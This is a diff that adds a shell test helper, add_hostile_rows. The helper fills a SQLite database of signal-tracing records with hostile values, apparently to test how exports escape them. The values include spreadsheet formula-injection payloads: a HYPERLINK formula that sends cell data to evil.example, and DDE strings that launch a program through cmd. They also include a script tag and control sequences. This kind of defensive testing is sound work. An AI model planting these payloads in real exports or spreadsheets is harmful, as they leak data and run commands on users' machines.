@@ -118,3 +118,31 @@ add_run() {
 		pid, version, events, rows, lost_kernel) values ($2, $3, $stopped, $ended, 'unicast',
 		4321, 'test', 10, 12, ${5:-0})"
 }
+
+# add_hostile_rows DB: rows whose sender command line, comm and exe and
+# target comm are hostile: spreadsheet formulas, CSV and JSON syntax,
+# control and escape sequences, invalid UTF-8, U+2028, HTML. One row per
+# value, copied from the first row of DB, a second apart.
+add_hostile_rows() {
+	sqlite3 "$1" <<'SQL'
+create temp table h(v text);
+insert into h values
+	('=HYPERLINK("http://evil.example/?"&A1,"click")'), ('+1+1'),
+	('-2+3+cmd|'' /C calc''!A0'), ('@SUM(1+1)*cmd|'' /C calc''!A0'),
+	(char(9) || '=1+1 tab'), (char(13) || '=1+1 cr'), (char(10) || '=1+1 lf'),
+	('''quoted already'), ('comma, "quote" and' || char(13) || char(10) || 'newline'),
+	('  =spaces first'), (cast(x'626164ff20c0af2062797465732e' as text)),
+	('ctl ' || char(1) || char(27) || '[31m red' || char(127) || ' del'),
+	('sep ' || char(8232) || ' ' || char(8233)), ('emoji 💀 and é'), ('＝1+1 full width'),
+	('<script>alert(1)</script>&amp;'), ('back\slash \x41 "json" \u0041'), ('|md|`code`*b*_i_');
+insert or ignore into strings(value) select v from h;
+insert into signal_rows(epoch_ms, serial, host_s, arch_s, syscall_s, signal, success, errno_s,
+	target_arg, sender_pid, sender_ppid, sender_uid, sender_euid, sender_user_s, sender_comm_s,
+	sender_exe_s, sender_cmdline_s, target_pid, target_uid, target_user_s, target_comm_s)
+select r.epoch_ms + 60000 + 1000 * s.id, 800000 + s.id, r.host_s, r.arch_s, r.syscall_s, 9, 1,
+	NULL, r.target_arg, 4000 + s.id, 1, 1000, 1000, r.sender_user_s, s.id, s.id, s.id,
+	5000 + s.id, 0, r.target_user_s, s.id
+from strings s, (select * from signal_rows order by id limit 1) r
+where s.value in (select v from h);
+SQL
+}
